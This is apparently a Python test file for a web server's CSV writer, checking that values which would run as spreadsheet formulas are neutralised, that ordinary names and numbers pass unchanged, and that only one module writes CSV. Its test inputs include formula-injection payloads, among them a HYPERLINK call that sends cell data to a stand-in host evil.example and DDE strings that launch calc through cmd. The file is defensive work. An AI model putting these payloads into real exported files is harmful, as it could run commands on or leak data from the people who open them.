"""One writer for all CSV: what people wrote never runs in a spreadsheet."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.web.csv_files import as_text, csv_answer, line

SERVER = Path(__file__).parent.parent.parent / "server"
WRITER = "web/csv_files.py"
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20|%"


def back(answer: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(answer.decode(), newline="")))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?"&B2,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "|calc",
        "%calc",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(name: str) -> None:
    [_, [field, beside]] = back(bytes(csv_answer("x.csv", ("name", "n"), [(name, 3)]).body))
    assert (field, beside) == (f"'{name}", "3")


@pytest.mark.parametrize("value", ["Northern Homes", "-5", "+5", "-0.25", -5, 0.5, "", "28+", None])
def test_a_name_and_a_number_stay_as_they_are(value: object) -> None:
    assert as_text(value) == ("" if value is None else str(value))


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2)))
def test_no_field_of_a_file_begins_a_formula(rows: list[list[str]]) -> None:
    for row in back(bytes(csv_answer("x.csv", ("a", "b"), [_plain(row) for row in rows]).body)):
        for field in row:
            stripped = field.lstrip()
            assert not stripped[:1] or stripped[0] not in STARTS or field.lstrip("+-").isdigit()


def _plain(row: list[str]) -> list[str]:
    """Without half a surrogate pair, which UTF-8 does not have."""
    return [text.encode("utf-8", "ignore").decode() for text in row]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=4))
def test_a_row_for_a_program_comes_out_as_it_went_in(row: list[str]) -> None:
    assert back(line(row).encode()) == [row]


def test_no_other_file_writes_csv() -> None:
    others = [file for file in SERVER.rglob("*.py") if str(file.relative_to(SERVER)) != WRITER]
    wrong = [str(file.relative_to(SERVER)) for file in others if _writes_csv(file)]
    assert wrong == [], f"write CSV by {WRITER}"
    assert _writes_csv(SERVER / WRITER), "this looks for the right thing"


def _writes_csv(file: Path) -> bool:
    """Whether it reaches for a writer of CSV, or says that what it answers is CSV."""
    for node in ast.walk(ast.parse(file.read_text())):
        match node:
            case ast.Attribute(value=ast.Name(id="csv"), attr=name) if "riter" in name:
                return True
            case ast.ImportFrom(module="csv", names=names) if any("riter" in n.name for n in names):
                return True
            case ast.Constant(value=str(text)) if text.startswith("text/csv"):
                return True
            case _:
                continue
    return False
